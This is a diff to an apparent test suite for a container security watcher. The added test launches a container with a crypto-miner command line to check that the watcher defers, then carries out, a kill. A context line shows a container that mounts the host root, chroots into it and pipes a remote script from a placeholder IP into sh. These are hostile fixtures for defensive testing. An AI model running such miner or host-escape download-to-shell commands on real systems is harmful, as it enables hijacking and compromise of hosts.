@@ -85,6 +85,18 @@ describe('watch against the lab engine', () => {
     await until(() => docker(lab, ['inspect', '-f', '{{.State.Running}}', `${PREFIX}renamed`]).trim() === 'false', 'container stopped');
   });
 
+  it('defers the response for a container that is only created, and carries it out when it starts', async () => {
+    const name = `${PREFIX}deferred`;
+    docker(lab, ['create', '--name', name, '--network', 'none', 'alpine', 'sh', '-c',
+      minerScript('/tmp/.x11', `-a rx/0 -o stratum+tcp://pool.example.invalid:3333 -u ${WALLET} --donate-level=1 --threads=4`)]);
+    const first = await until(() => alertsFor(sink, name)[0], 'create-time alert');
+    expect(first.response).toMatchObject({ action: 'kill', done: false, detail: 'deferred until the container starts' });
+    docker(lab, ['start', name]);
+    const taken = await until(() => sink.eventsOf('watch.response.taken').find((e) => (e.container as { name: string }).name === name), 'deferred kill');
+    expect(taken.action).toBe('kill');
+    await until(() => docker(lab, ['inspect', '-f', '{{.State.Running}}', name]).trim() === 'false', 'container stopped');
+  });
+
   it('flags a host-root bind with chroot and download-to-shell, and an encoded pipeline', async () => {
     docker(lab, ['create', '--name', `${PREFIX}chroot`, '--network', 'none', '-v', '/:/mnt', 'alpine',
       'chroot', '/mnt', 'sh', '-c', 'curl -fsSL http://198.51.100.7/d.sh | sh']);
